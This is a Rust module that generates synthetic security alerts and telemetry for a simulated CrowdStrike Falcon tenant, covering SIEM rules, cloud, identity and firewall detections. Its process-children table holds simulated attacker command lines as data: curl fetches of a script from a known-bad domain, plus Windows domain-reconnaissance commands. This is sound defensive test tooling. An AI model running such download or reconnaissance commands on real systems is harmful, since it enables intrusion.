//! Alerts from the detecting products besides the endpoint sensor — NG-SIEM correlation rules,
//! Falcon Cloud Security, Identity Protection and third-party connectors — each with what an
//! analysis of it reads: an NG-SIEM alert's indicator event and the events its rule matched,
//! the payload of cloud, identity and third-party alerts. Endpoint alerts gain the telemetry of
//! their process tree: the triggering process's parent id and the children it started.
//!
//! Everything here is generated after the rest of the tenant from an RNG of its own, so the
//! endpoint alerts, the events before and every declared family keep exactly the data they had.
//! The well-known values thread through: brute force and DNS alerts on [`KNOWN_HOSTNAME`], the
//! known-bad IP as the attacker's address, the known-bad hash as a phishing attachment.

use std::collections::HashMap;

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use serde_json::{Map, Value, json};

use crate::tenant::{
    KNOWN_BAD_DOMAIN, KNOWN_BAD_IP, KNOWN_BAD_SHA256, KNOWN_USER, severity_name, sha256_hex,
};
use crate::timeutil::{rfc3339_ms, rfc3339_ns};
use crate::world::{World, hex32, uuid};

const MIN: i64 = 60_000;
const HOUR: i64 = 3_600_000;
const DAY: i64 = 86_400_000;

/// MITRE ATT&CK context of a scenario: tactic, tactic id, technique, technique id.
type Mitre = (&'static str, &'static str, &'static str, &'static str);

/// Where an NG-SIEM rule's matched events come from.
#[derive(Clone, Copy)]
enum Source {
    /// Failed RDP logons from the attacker's IP, then one that succeeds (sensor events).
    BruteForce,
    /// DNS requests for the known-bad domain (sensor events).
    BadDomain,
    /// Okta MFA pushes denied, then one accepted (third-party events).
    MfaFatigue,
    /// AWS CloudTrail: an access key created for another user (third-party events).
    AccessKey,
    /// Windows security log cleared (event 1102, third-party events).
    LogCleared,
}

/// An NG-SIEM correlation rule and how many alerts it raised.
struct Rule {
    name: &'static str,
    description: &'static str,
    mitre: Mitre,
    severity: (u32, u32),
    source: Source,
    alerts: usize,
}

const RULES: &[Rule] = &[
    Rule {
        name: "Brute force followed by successful logon",
        description: "Repeated failed logons from one external address, then a successful logon from it.",
        mitre: (
            "Credential Access",
            "TA0006",
            "Password Guessing",
            "T1110.001",
        ),
        severity: (70, 85),
        source: Source::BruteForce,
        alerts: 2,
    },
    Rule {
        name: "DNS lookups of a known-bad domain",
        description: "A host resolved a domain on the threat intelligence block list.",
        mitre: ("Command and Control", "TA0011", "DNS", "T1071.004"),
        severity: (60, 75),
        source: Source::BadDomain,
        alerts: 2,
    },
    Rule {
        name: "Okta MFA push fatigue",
        description: "Many denied Okta Verify pushes for one user, then an accepted one.",
        mitre: (
            "Credential Access",
            "TA0006",
            "Multi-Factor Authentication Request Generation",
            "T1621",
        ),
        severity: (65, 80),
        source: Source::MfaFatigue,
        alerts: 2,
    },
    Rule {
        name: "AWS access key created for another user",
        description: "An IAM user created an access key for a different IAM user.",
        mitre: (
            "Persistence",
            "TA0003",
            "Additional Cloud Credentials",
            "T1098.001",
        ),
        severity: (55, 70),
        source: Source::AccessKey,
        alerts: 1,
    },
    Rule {
        name: "Security event log cleared",
        description: "The Windows Security event log was cleared (event 1102).",
        mitre: (
            "Defense Evasion",
            "TA0005",
            "Clear Windows Event Logs",
            "T1070.001",
        ),
        severity: (50, 65),
        source: Source::LogCleared,
        alerts: 2,
    },
];

/// A Falcon Cloud Security IOA alert template.
struct CloudRule {
    name: &'static str,
    description: &'static str,
    mitre: Mitre,
    severity: (u32, u32),
    provider: &'static str,
    policy_id: u32,
    service: &'static str,
    resource_type: &'static str,
    /// `{account}` is substituted.
    resource_id: &'static str,
    event_name: &'static str,
    event_source: &'static str,
    remediation: &'static str,
    alerts: usize,
}

const CLOUD_RULES: &[CloudRule] = &[
    CloudRule {
        name: "S3BucketPublicAccessGranted",
        description: "An S3 bucket ACL was changed to grant public read access.",
        mitre: ("Collection", "TA0009", "Data from Cloud Storage", "T1530"),
        severity: (70, 85),
        provider: "aws",
        policy_id: 212,
        service: "S3",
        resource_type: "AWS::S3::Bucket",
        resource_id: "arn:aws:s3:::finance-reports-{account}",
        event_name: "PutBucketAcl",
        event_source: "s3.amazonaws.com",
        remediation: "Remove the public grants from the bucket ACL and enable S3 Block Public Access on the account.",
        alerts: 2,
    },
    CloudRule {
        name: "RootAccountConsoleLoginWithoutMFA",
        description: "The AWS root user signed in to the console without multi-factor authentication.",
        mitre: ("Initial Access", "TA0001", "Cloud Accounts", "T1078.004"),
        severity: (80, 90),
        provider: "aws",
        policy_id: 118,
        service: "IAM",
        resource_type: "AWS::IAM::User",
        resource_id: "arn:aws:iam::{account}:root",
        event_name: "ConsoleLogin",
        event_source: "signin.amazonaws.com",
        remediation: "Enable MFA on the root user, rotate its password and use IAM roles for daily work.",
        alerts: 1,
    },
    CloudRule {
        name: "GuestUserAssignedOwnerRole",
        description: "A guest user was assigned the Owner role on an Azure subscription.",
        mitre: (
            "Privilege Escalation",
            "TA0004",
            "Additional Cloud Roles",
            "T1098.003",
        ),
        severity: (70, 85),
        provider: "azure",
        policy_id: 305,
        service: "Microsoft.Authorization",
        resource_type: "Microsoft.Authorization/roleAssignments",
        resource_id: "/subscriptions/{account}/providers/Microsoft.Authorization/roleAssignments/owner-guest",
        event_name: "Microsoft.Authorization/roleAssignments/write",
        event_source: "Azure Activity Log",
        remediation: "Remove the role assignment and review the subscription's guest access policy.",
        alerts: 1,
    },
    CloudRule {
        name: "ServiceAccountKeyCreated",
        description: "A user-managed key was created for a GCP service account.",
        mitre: (
            "Persistence",
            "TA0003",
            "Additional Cloud Credentials",
            "T1098.001",
        ),
        severity: (50, 65),
        provider: "gcp",
        policy_id: 407,
        service: "iam.googleapis.com",
        resource_type: "iam.googleapis.com/ServiceAccountKey",
        resource_id: "projects/{account}/serviceAccounts/deploy@{account}.iam.gserviceaccount.com",
        event_name: "google.iam.admin.v1.CreateServiceAccountKey",
        event_source: "Cloud Audit Logs",
        remediation: "Delete the key unless it is needed, and prefer workload identity federation.",
        alerts: 1,
    },
];

/// An Identity Protection detection template.
struct IdentityRule {
    name: &'static str,
    description: &'static str,
    mitre: Mitre,
    severity: (u32, u32),
    protocol: &'static str,
    /// `{dc}` and `{server}` are substituted.
    target_service: &'static str,
    alerts: usize,
}

const IDENTITY_RULES: &[IdentityRule] = &[
    IdentityRule {
        name: "Kerberoasting",
        description: "An account requested Kerberos service tickets for many service accounts with weak encryption.",
        mitre: ("Credential Access", "TA0006", "Kerberoasting", "T1558.003"),
        severity: (70, 85),
        protocol: "Kerberos",
        target_service: "MSSQLSvc/{server}.corp.example:1433",
        alerts: 2,
    },
    IdentityRule {
        name: "PasswordSprayFromEndpoint",
        description: "One endpoint tried one password against many accounts.",
        mitre: (
            "Credential Access",
            "TA0006",
            "Password Spraying",
            "T1110.003",
        ),
        severity: (60, 75),
        protocol: "NTLM",
        target_service: "ldap/{dc}.corp.example",
        alerts: 1,
    },
    IdentityRule {
        name: "PassTheHashToServer",
        description: "An NTLM logon reused a credential hash from another endpoint.",
        mitre: ("Lateral Movement", "TA0008", "Pass the Hash", "T1550.002"),
        severity: (75, 90),
        protocol: "NTLM",
        target_service: "cifs/{server}.corp.example",
        alerts: 1,
    },
];

/// A third-party connector alert template.
struct VendorRule {
    name: &'static str,
    description: &'static str,
    mitre: Mitre,
    severity: (u32, u32),
    vendor: &'static str,
    product: &'static str,
    domain: &'static str,
    alerts: usize,
}

const VENDOR_RULES: &[VendorRule] = &[
    VendorRule {
        name: "Risky sign-in from an anonymous IP address",
        description: "Microsoft Entra ID Protection flagged a sign-in from an anonymizing network.",
        mitre: ("Initial Access", "TA0001", "Valid Accounts", "T1078"),
        severity: (60, 75),
        vendor: "Microsoft",
        product: "Entra ID Protection",
        domain: "Identity",
        alerts: 1,
    },
    VendorRule {
        name: "Malicious attachment delivered",
        description: "Proofpoint delivered a message whose attachment was later condemned.",
        mitre: (
            "Initial Access",
            "TA0001",
            "Spearphishing Attachment",
            "T1566.001",
        ),
        severity: (70, 85),
        vendor: "Proofpoint",
        product: "Targeted Attack Protection",
        domain: "Email",
        alerts: 1,
    },
    VendorRule {
        name: "Command-and-control traffic blocked",
        description: "The firewall blocked traffic matching a command-and-control signature.",
        mitre: (
            "Command and Control",
            "TA0011",
            "Web Protocols",
            "T1071.001",
        ),
        severity: (60, 80),
        vendor: "Palo Alto Networks",
        product: "PAN-OS Threat Prevention",
        domain: "Network",
        alerts: 2,
    },
];

/// What an alert says of itself: its id, product and type, the rule, MITRE context, severity.
struct Head<'a> {
    composite: String,
    product: &'a str,
    kind: &'a str,
    name: &'a str,
    description: &'a str,
    mitre: Mitre,
    severity: (u32, u32),
}

/// The generator's state: its RNG, the tenant's ids, the hosts it links alerts to.
struct Gen<'w> {
    rng: StdRng,
    cid: String,
    now: i64,
    /// The well-known workstation (first generated host).
    known: &'w Value,
    windows: Vec<&'w Value>,
    servers: Vec<&'w Value>,
    /// Domain controllers (Windows servers when the tenant has none).
    dcs: Vec<&'w Value>,
}

fn s<'a>(v: &'a Value, k: &str) -> &'a str {
    v.get(k).and_then(Value::as_str).unwrap_or("")
}

/// The account name of a host's last logon (`CORP\jdoe` → `jdoe`).
fn user_of(h: &Value) -> String {
    let u = s(h, "last_login_user");
    u.rsplit('\\').next().unwrap_or(u).to_string()
}

impl Gen<'_> {
    fn pick<'h>(&mut self, pool: &[&'h Value], fallback: &'h Value) -> &'h Value {
        pool.choose(&mut self.rng).copied().unwrap_or(fallback)
    }

    /// An alert's time: the first of each scenario within a day, the rest within a week
    /// (the NG-SIEM events cover seven days).
    fn alert_time(&mut self, first: bool) -> i64 {
        let age = if first {
            self.rng.gen_range(30 * MIN..DAY)
        } else {
            self.rng.gen_range(DAY..6 * DAY)
        };
        self.now - age
    }

    fn external_ip(&mut self) -> String {
        format!("198.51.100.{}", self.rng.gen_range(2..250))
    }

    /// The fields every alert has, whatever its product.
    fn base(&mut self, head: Head<'_>, ts: i64, first: bool) -> Map<String, Value> {
        let Head {
            composite,
            product,
            kind,
            name,
            description,
            mitre,
            severity,
        } = head;
        let severity = self.rng.gen_range(severity.0..=severity.1);
        let status = if first {
            "new"
        } else {
            ["new", "in_progress", "closed"][self.rng.gen_range(0..3)]
        };
        let created = ts + self.rng.gen_range(20_000..90_000);
        let updated = if status == "new" {
            created
        } else {
            (created + self.rng.gen_range(MIN..2 * HOUR)).min(self.now)
        };
        let id = composite
            .split_once(':')
            .map_or(composite.as_str(), |(_, rest)| rest)
            .to_string();
        let (tactic, tactic_id, technique, technique_id) = mitre;
        let v = json!({
            "composite_id": composite, "id": id, "aggregate_id": format!("agg{id}"), "cid": self.cid, "agent_id": "",
            "name": name, "display_name": name, "description": description, "status": status,
            "severity": severity, "severity_name": severity_name(severity), "confidence": self.rng.gen_range(60..100),
            "product": product, "type": kind, "platform": "",
            "tactic": tactic, "tactic_id": tactic_id, "technique": technique, "technique_id": technique_id,
            "objective": "", "scenario": "",
            "mitre_attack": [{"tactic": tactic, "tactic_id": tactic_id, "technique": technique, "technique_id": technique_id}],
            "timestamp": rfc3339_ms(ts), "context_timestamp": rfc3339_ms(ts),
            "created_timestamp": rfc3339_ns(created, self.rng.gen_range(0..999_999)),
            "updated_timestamp": rfc3339_ns(updated, self.rng.gen_range(0..999_999)),
            "crawled_timestamp": rfc3339_ns(updated, self.rng.gen_range(0..999_999)),
            "tags": if status == "closed" { json!(["true_positive"]) } else { json!([]) },
            "resolution": if status == "closed" { "true_positive" } else { "" },
            "show_in_ui": true, "email_sent": false,
            "assigned_to_name": "", "assigned_to_uid": "", "assigned_to_uuid": "",
            "seconds_to_triaged": if status == "new" { 0 } else { self.rng.gen_range(60..7200) },
            "seconds_to_resolved": 0, "is_aggregated": false, "linked_case_ids": [], "comments": [],
            "falcon_host_link": format!("https://falcon.crowdstrike.com/unified-detections/{composite}"),
        });
        match v {
            Value::Object(m) => m,
            _ => Map::new(),
        }
    }

    /// Links an alert to the host it concerns.
    fn on_host(a: &mut Map<String, Value>, h: &Value) {
        a.insert("agent_id".into(), h["device_id"].clone());
        a.insert("platform".into(), h["platform_name"].clone());
        a.insert(
            "device".into(),
            json!({"device_id": h["device_id"], "cid": h["cid"], "hostname": h["hostname"],
                   "platform_id": h["platform_id"], "platform_name": h["platform_name"], "os_version": h["os_version"],
                   "local_ip": h["local_ip"], "external_ip": h["external_ip"], "mac_address": h["mac_address"],
                   "agent_version": h["agent_version"], "machine_domain": h["machine_domain"], "status": h["status"],
                   "product_type_desc": h["product_type_desc"], "first_seen": h["first_seen"], "last_seen": h["last_seen"],
                   "groups": h["groups"], "tags": h["tags"]}),
        );
    }

    /// A sensor event on host `h`.
    fn sensor_event(&mut self, h: &Value, ts: i64, name: &str) -> Map<String, Value> {
        let mut m = Map::new();
        m.insert("@timestamp".into(), json!(ts));
        m.insert("@id".into(), json!(hex32(&mut self.rng)));
        m.insert("#event_simpleName".into(), json!(name));
        m.insert("#repo".into(), json!("base_sensor"));
        m.insert("cid".into(), json!(self.cid));
        m.insert("aid".into(), h["device_id"].clone());
        m.insert("aip".into(), h["external_ip"].clone());
        m.insert("ComputerName".into(), h["hostname"].clone());
        m.insert(
            "event_platform".into(),
            json!(match s(h, "platform_name") {
                "Windows" => "Win",
                "Mac" => "Mac",
                _ => "Lin",
            }),
        );
        m
    }

    /// A third-party log event.
    fn vendor_event(&mut self, ts: i64, vendor: &str, action: &str) -> Map<String, Value> {
        let mut m = Map::new();
        m.insert("@timestamp".into(), json!(ts));
        m.insert("@id".into(), json!(hex32(&mut self.rng)));
        m.insert("#repo".into(), json!("third-party"));
        m.insert("#Vendor".into(), json!(vendor));
        m.insert("cid".into(), json!(self.cid));
        m.insert("event.action".into(), json!(action));
        m
    }
}

/// The first value of `field` in a declared family's collection, when that family exists (so
/// cloud alerts name the accounts the cloud family registered).
fn family_value(w: &World, family: &str, field: &str) -> Option<String> {
    w.families
        .get(family)?
        .items
        .iter()
        .find_map(|v| match v.get(field)? {
            Value::String(s) if !s.is_empty() => Some(s.clone()),
            Value::Number(n) => Some(n.to_string()),
            _ => None,
        })
}

/// Adds the non-endpoint alerts, their NG-SIEM events and the endpoint process telemetry.
pub(crate) fn add(w: &mut World, seed: u64, now: i64) {
    let hosts = w.hosts.items.clone();
    let Some(known) = hosts.first() else {
        return;
    };
    let windows: Vec<&Value> = hosts
        .iter()
        .filter(|h| h["platform_name"] == "Windows")
        .collect();
    let servers: Vec<&Value> = windows
        .iter()
        .copied()
        .filter(|h| h["product_type_desc"] != "Workstation")
        .collect();
    let mut dcs: Vec<&Value> = windows
        .iter()
        .copied()
        .filter(|h| h["product_type_desc"] == "Domain Controller")
        .collect();
    if dcs.is_empty() {
        dcs = servers.clone();
    }
    let accounts = [
        ("aws", family_value(w, "cloud_aws_accounts", "account_id")),
        (
            "azure",
            family_value(w, "cloud_azure_accounts", "subscription_id"),
        ),
        ("gcp", family_value(w, "cloud_gcp_accounts", "parent_id")),
    ];
    let mut g = Gen {
        rng: StdRng::seed_from_u64(seed ^ 0xA1E7_C0DE_5EED),
        cid: w.cid.clone(),
        now,
        known,
        windows,
        servers,
        dcs,
    };
    let mut alerts = Vec::new();
    let mut events: Vec<Map<String, Value>> = Vec::new();
    for rule in RULES {
        for i in 0..rule.alerts {
            ngsiem_alert(&mut g, rule, i == 0, &mut alerts, &mut events);
        }
    }
    let accounts: HashMap<&str, String> = accounts
        .into_iter()
        .map(|(p, a)| {
            let a = a.unwrap_or_else(|| match p {
                "aws" => format!(
                    "{:012}",
                    g.rng.gen_range(100_000_000_000u64..999_999_999_999)
                ),
                "azure" => uuid(&mut g.rng),
                _ => "prj-finance-prod".to_string(),
            });
            (p, a)
        })
        .collect();
    for rule in CLOUD_RULES {
        for i in 0..rule.alerts {
            let a = cloud_alert(&mut g, rule, i == 0, &accounts[rule.provider]);
            alerts.push(a);
        }
    }
    for rule in IDENTITY_RULES {
        for i in 0..rule.alerts {
            alerts.push(identity_alert(&mut g, rule, i == 0));
        }
    }
    for rule in VENDOR_RULES {
        for i in 0..rule.alerts {
            alerts.push(vendor_alert(&mut g, rule, i == 0));
        }
    }
    process_children(&mut g, &w.alerts.items, &mut w.events, &mut events);
    for a in alerts {
        w.alerts.insert(Value::Object(a));
    }
    w.events.extend(events.into_iter().map(Value::Object));
    // Newest first, as generated; the sort is stable, so earlier events keep their order.
    w.events
        .sort_by_key(|e| std::cmp::Reverse(e["@timestamp"].as_i64().unwrap_or(0)));
}

/// One NG-SIEM alert: the events its rule matched, tagged with the detection, and the
/// indicator event naming the detection.
fn ngsiem_alert(
    g: &mut Gen<'_>,
    rule: &Rule,
    first: bool,
    alerts: &mut Vec<Map<String, Value>>,
    events: &mut Vec<Map<String, Value>>,
) {
    let ts = g.alert_time(first);
    let indicator = hex32(&mut g.rng);
    let detection = hex32(&mut g.rng);
    let composite = format!("{}:ngsiem:{}:{indicator}", g.cid, g.cid);
    let mut a = g.base(
        Head {
            composite: composite.clone(),
            product: "ngsiem",
            kind: "ngsiem-rule-trigger-event",
            name: rule.name,
            description: rule.description,
            mitre: rule.mitre,
            severity: rule.severity,
        },
        ts,
        first,
    );
    let rule_id = sha256_hex(rule.name)[..32].to_string();
    a.insert("rule_id".into(), json!(rule_id));
    a.insert("rule_name".into(), json!(rule.name));
    a.insert("indicator_id".into(), json!(indicator));
    a.insert("source_products".into(), json!(["Falcon Next-Gen SIEM"]));
    let n = g.rng.gen_range(4..9);
    let start = ts - g.rng.gen_range(10 * MIN..40 * MIN);
    let step = (ts - start) / (n as i64 + 1);
    let mut matched = Vec::new();
    match rule.source {
        Source::BruteForce | Source::BadDomain => {
            let known = g.known;
            let pool = if matches!(rule.source, Source::BruteForce) {
                g.servers.clone()
            } else {
                g.windows.clone()
            };
            let h = if first { known } else { g.pick(&pool, known) };
            let user = user_of(h);
            for k in 0..n {
                let at = start + step * k as i64;
                let mut e;
                if matches!(rule.source, Source::BruteForce) {
                    let last = k + 1 == n;
                    e = g.sensor_event(
                        h,
                        at,
                        if last {
                            "UserLogon"
                        } else {
                            "UserLogonFailed2"
                        },
                    );
                    e.insert("UserName".into(), json!(user));
                    e.insert("LogonType".into(), json!("10"));
                    e.insert("RemoteAddressIP4".into(), json!(KNOWN_BAD_IP));
                } else {
                    e = g.sensor_event(h, at, "DnsRequest");
                    e.insert("DomainName".into(), json!(KNOWN_BAD_DOMAIN));
                    e.insert("RequestType".into(), json!("1"));
                }
                matched.push(e);
            }
            Gen::on_host(&mut a, h);
            a.insert("user_name".into(), json!(user));
            a.insert("data_domains".into(), json!(["Endpoint"]));
            a.insert("source_vendors".into(), json!(["CrowdStrike"]));
            if matches!(rule.source, Source::BruteForce) {
                a.insert("source_ip".into(), json!(KNOWN_BAD_IP));
            } else {
                a.insert("domain".into(), json!(KNOWN_BAD_DOMAIN));
            }
        }
        Source::MfaFatigue => {
            let user = if first {
                KNOWN_USER.to_string()
            } else {
                let h = g.pick(&g.windows.clone(), g.known);
                user_of(h)
            };
            let email = format!("{user}@corp.example");
            for k in 0..n {
                let last = k + 1 == n;
                let action = if last {
                    "user.authentication.auth_via_mfa"
                } else {
                    "user.mfa.okta_verify.deny_push"
                };
                let mut e = g.vendor_event(start + step * k as i64, "okta", action);
                e.insert("user.email".into(), json!(email));
                e.insert("source.ip".into(), json!(KNOWN_BAD_IP));
                e.insert(
                    "event.outcome".into(),
                    json!(if last { "success" } else { "failure" }),
                );
                matched.push(e);
            }
            a.insert("user_name".into(), json!(email));
            a.insert("source_ip".into(), json!(KNOWN_BAD_IP));
            a.insert("data_domains".into(), json!(["Identity"]));
            a.insert("source_vendors".into(), json!(["Okta"]));
        }
        Source::AccessKey => {
            let account = format!(
                "{:012}",
                g.rng.gen_range(100_000_000_000u64..999_999_999_999)
            );
            for (k, action) in ["ListUsers", "CreateAccessKey"].into_iter().enumerate() {
                let mut e = g.vendor_event(start + step * k as i64, "aws", action);
                e.insert("cloud.account.id".into(), json!(account));
                e.insert("source.ip".into(), json!(KNOWN_BAD_IP));
                e.insert(
                    "Vendor.userIdentity.arn".into(),
                    json!(format!("arn:aws:iam::{account}:user/{KNOWN_USER}")),
                );
                if action == "CreateAccessKey" {
                    e.insert(
                        "Vendor.requestParameters.userName".into(),
                        json!("svc-deploy"),
                    );
                }
                matched.push(e);
            }
            a.insert("user_name".into(), json!(KNOWN_USER));
            a.insert("cloud_account_id".into(), json!(account));
            a.insert("source_ip".into(), json!(KNOWN_BAD_IP));
            a.insert("data_domains".into(), json!(["Cloud"]));
            a.insert("source_vendors".into(), json!(["Amazon Web Services"]));
        }
        Source::LogCleared => {
            let h = g.pick(&g.servers.clone(), g.known);
            let mut e = g.vendor_event(start, "microsoft", "audit-log-cleared");
            e.insert("event.code".into(), json!("1102"));
            e.insert("host.name".into(), h["hostname"].clone());
            e.insert("user.name".into(), json!("Administrator"));
            matched.push(e);
            Gen::on_host(&mut a, h);
            a.insert("user_name".into(), json!("Administrator"));
            a.insert("data_domains".into(), json!(["Endpoint"]));
            a.insert("source_vendors".into(), json!(["Microsoft"]));
        }
    }
    for e in &mut matched {
        e.insert("Ngsiem.detection.id".into(), json!(detection));
    }
    let mut ind = Map::new();
    ind.insert("@timestamp".into(), json!(ts));
    ind.insert("@id".into(), json!(hex32(&mut g.rng)));
    ind.insert("#repo".into(), json!("xdr_indicatorsrepo"));
    ind.insert("cid".into(), json!(g.cid));
    ind.insert("Ngsiem.indicator.id".into(), json!(indicator));
    ind.insert("Ngsiem.detection.id".into(), json!(detection));
    ind.insert("Ngsiem.alert.id".into(), json!(composite));
    ind.insert(
        "Ngsiem.event.type".into(),
        json!("ngsiem-rule-trigger-event"),
    );
    ind.insert("Ngsiem.rule.name".into(), json!(rule.name));
    ind.insert("Ngsiem.rule.id".into(), a["rule_id"].clone());
    ind.insert("Ngsiem.severity".into(), a["severity"].clone());
    events.extend(matched);
    events.push(ind);
    alerts.push(a);
}

/// One Falcon Cloud Security IOA alert in `account`.
fn cloud_alert(g: &mut Gen<'_>, r: &CloudRule, first: bool, account: &str) -> Map<String, Value> {
    let ts = g.alert_time(first);
    let composite = format!("{}:fcs:ioa-{}:{}", g.cid, r.policy_id, uuid(&mut g.rng));
    let mut a = g.base(
        Head {
            composite,
            product: "cwpp",
            kind: "fcs-ioa",
            name: r.name,
            description: r.description,
            mitre: r.mitre,
            severity: r.severity,
        },
        ts,
        first,
    );
    let region = match r.provider {
        "aws" => ["us-east-1", "eu-west-1"][g.rng.gen_range(0..2)],
        "azure" => "westeurope",
        _ => "global",
    };
    let (principal, source_ip) = match (r.provider, r.event_name) {
        ("aws", "ConsoleLogin") => (format!("arn:aws:iam::{account}:root"), g.external_ip()),
        ("aws", _) => (
            format!("arn:aws:iam::{account}:user/{KNOWN_USER}"),
            KNOWN_BAD_IP.to_string(),
        ),
        ("azure", _) => (
            "guest.contractor_outlook.com#EXT#@corpexample.onmicrosoft.com".into(),
            g.external_ip(),
        ),
        _ => (format!("{KNOWN_USER}@corp.example"), g.external_ip()),
    };
    for (k, v) in [
        ("cloud_provider", json!(r.provider)),
        ("cloud_account_id", json!(account)),
        ("cloud_region", json!(region)),
        ("cloud_service", json!(r.service)),
        ("resource_type", json!(r.resource_type)),
        (
            "resource_id",
            json!(r.resource_id.replace("{account}", account)),
        ),
        ("policy_id", json!(r.policy_id)),
        ("policy_name", json!(r.name)),
        ("cloud_event_name", json!(r.event_name)),
        ("cloud_event_source", json!(r.event_source)),
        ("user_identity", json!(principal)),
        ("source_ip", json!(source_ip)),
        ("remediation", json!(r.remediation)),
        ("data_domains", json!(["Cloud"])),
        ("source_products", json!(["Falcon Cloud Security"])),
        ("source_vendors", json!(["CrowdStrike"])),
    ] {
        a.insert(k.into(), v);
    }
    a
}

/// One Identity Protection alert: an account acting from an endpoint against a service.
fn identity_alert(g: &mut Gen<'_>, r: &IdentityRule, first: bool) -> Map<String, Value> {
    let ts = g.alert_time(first);
    let composite = format!("{}:ldt:{}:{}", g.cid, g.cid, hex32(&mut g.rng));
    let mut a = g.base(
        Head {
            composite,
            product: "idp",
            kind: "idp-detection",
            name: r.name,
            description: r.description,
            mitre: r.mitre,
            severity: r.severity,
        },
        ts,
        first,
    );
    let known = g.known;
    let source = if first {
        known
    } else {
        g.pick(&g.windows.clone(), known)
    };
    let dc = g.pick(&g.dcs.clone(), known);
    let server = g.pick(&g.servers.clone(), known);
    let account = if r.name == "PassTheHashToServer" {
        "svc_backup".to_string()
    } else {
        user_of(source)
    };
    let service = r
        .target_service
        .replace("{dc}", s(dc, "hostname"))
        .replace("{server}", s(server, "hostname"));
    let target = if r.name == "PassTheHashToServer" {
        server
    } else {
        dc
    };
    for (k, v) in [
        ("user_name", json!(account)),
        ("source_account_name", json!(account)),
        ("source_account_domain", json!("CORP.EXAMPLE")),
        (
            "source_account_upn",
            json!(format!("{account}@corp.example")),
        ),
        ("source_endpoint_host_name", source["hostname"].clone()),
        ("source_endpoint_ip_address", source["local_ip"].clone()),
        ("target_endpoint_host_name", target["hostname"].clone()),
        ("target_service", json!(service)),
        ("protocol", json!(r.protocol)),
        (
            "target_account_count",
            json!(if r.name == "PasswordSprayFromEndpoint" {
                g.rng.gen_range(25..80)
            } else {
                1
            }),
        ),
        ("data_domains", json!(["Identity"])),
        ("source_products", json!(["Falcon Identity Protection"])),
        ("source_vendors", json!(["CrowdStrike"])),
    ] {
        a.insert(k.into(), v);
    }
    Gen::on_host(&mut a, source);
    a
}

/// One third-party connector alert.
fn vendor_alert(g: &mut Gen<'_>, r: &VendorRule, first: bool) -> Map<String, Value> {
    let ts = g.alert_time(first);
    let vendor_id = hex32(&mut g.rng);
    let composite = format!("{}:thirdparty:{}:{vendor_id}", g.cid, g.cid);
    let mut a = g.base(
        Head {
            composite,
            product: "thirdparty",
            kind: "thirdparty",
            name: r.name,
            description: r.description,
            mitre: r.mitre,
            severity: r.severity,
        },
        ts,
        first,
    );
    let known = g.known;
    let h = if first {
        known
    } else {
        g.pick(&g.windows.clone(), known)
    };
    let email = format!("{}@corp.example", user_of(h));
    let mut fields = vec![
        ("vendor_alert_id", json!(vendor_id)),
        ("data_domains", json!([r.domain])),
        ("source_products", json!([r.product])),
        ("source_vendors", json!([r.vendor])),
    ];
    match r.vendor {
        "Microsoft" => fields.extend([
            ("user_name", json!(email)),
            ("source_ip", json!(KNOWN_BAD_IP)),
            ("location", json!("Anonymous proxy (Tor exit node)")),
            ("risk_level", json!("high")),
            ("application", json!("Office 365 Exchange Online")),
        ]),
        "Proofpoint" => fields.extend([
            ("user_name", json!(email)),
            ("email_recipient", json!(email)),
            ("email_sender", json!("billing@invoices-online.example")),
            ("email_subject", json!("Invoice overdue - payment required")),
            ("filename", json!("invoice.exe")),
            ("sha256", json!(KNOWN_BAD_SHA256)),
            ("threat_status", json!("active")),
        ]),
        _ => fields.extend([
            ("source_ip", h["local_ip"].clone()),
            ("source_host_name", h["hostname"].clone()),
            ("destination_ip", json!(KNOWN_BAD_IP)),
            ("destination_port", json!(443)),
            ("domain", json!(KNOWN_BAD_DOMAIN)),
            ("firewall_action", json!("block")),
            ("threat_signature", json!("Cobalt Strike Beacon C2 (86412)")),
        ]),
    }
    for (k, v) in fields {
        a.insert(k.into(), v);
    }
    a
}

/// Child processes for the triggering process of every endpoint alert that was not killed, and
/// the parent process id on the triggering process's own event, so its tree can be followed in
/// the telemetry.
fn process_children(
    g: &mut Gen<'_>,
    alerts: &[Value],
    existing: &mut [Value],
    events: &mut Vec<Map<String, Value>>,
) {
    let mut own: HashMap<(String, String), usize> = HashMap::new();
    for (i, e) in existing.iter().enumerate() {
        if e["#event_simpleName"] == "ProcessRollup2" {
            own.insert((s(e, "aid").into(), s(e, "TargetProcessId").into()), i);
        }
    }
    for a in alerts.iter().filter(|a| a["product"] == "epp") {
        let (aid, pid) = (s(a, "agent_id"), s(a, "process_id"));
        if let Some(&i) = own.get(&(aid.to_string(), pid.to_string())) {
            existing[i]["ParentProcessId"] = a["parent_process_id"].clone();
        }
        if a.pointer("/pattern_disposition_details/kill_process") == Some(&json!(true)) {
            continue;
        }
        let Some(ts) = crate::timeutil::parse_timestamp(s(a, "timestamp")) else {
            continue;
        };
        let win = a["platform"] == "Windows";
        let pool: &[(&str, &str)] = match s(a, "platform") {
            "Windows" => &[
                (
                    "conhost.exe",
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                ),
                ("whoami.exe", "whoami /all"),
                ("net.exe", "net group \"Domain Admins\" /domain"),
                ("nltest.exe", "nltest /dclist:corp.example"),
            ],
            "Mac" => &[
                ("sw_vers", "sw_vers"),
                ("id", "id"),
                ("curl", "curl -s https://{domain}/p"),
            ],
            _ => &[
                ("id", "id"),
                ("uname", "uname -a"),
                ("curl", "curl -s http://{domain}/x.sh"),
            ],
        };
        let host = &a["device"];
        for _ in 0..g.rng.gen_range(1..=2) {
            let (file, cmd) = pool[g.rng.gen_range(0..pool.len())];
            let at = ts + g.rng.gen_range(2_000..10 * MIN);
            let child: u64 = g.rng.gen_range(10_000_000_000..99_999_999_999);
            let mut e = g.sensor_event(host, at, "ProcessRollup2");
            let image = if win {
                format!("\\Device\\HarddiskVolume4\\Windows\\System32\\{file}")
            } else {
                format!("/usr/bin/{file}")
            };
            e.insert("ImageFileName".into(), json!(image));
            e.insert("FileName".into(), json!(file));
            e.insert(
                "CommandLine".into(),
                json!(cmd.replace("{domain}", KNOWN_BAD_DOMAIN)),
            );
            e.insert(
                "SHA256HashData".into(),
                json!(sha256_hex(&format!("falcon-sim:{file}"))),
            );
            e.insert("UserName".into(), a["user_name"].clone());
            e.insert("ParentBaseFileName".into(), a["filename"].clone());
            e.insert("ParentProcessId".into(), json!(pid));
            e.insert("TargetProcessId".into(), json!(child.to_string()));
            events.push(e);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
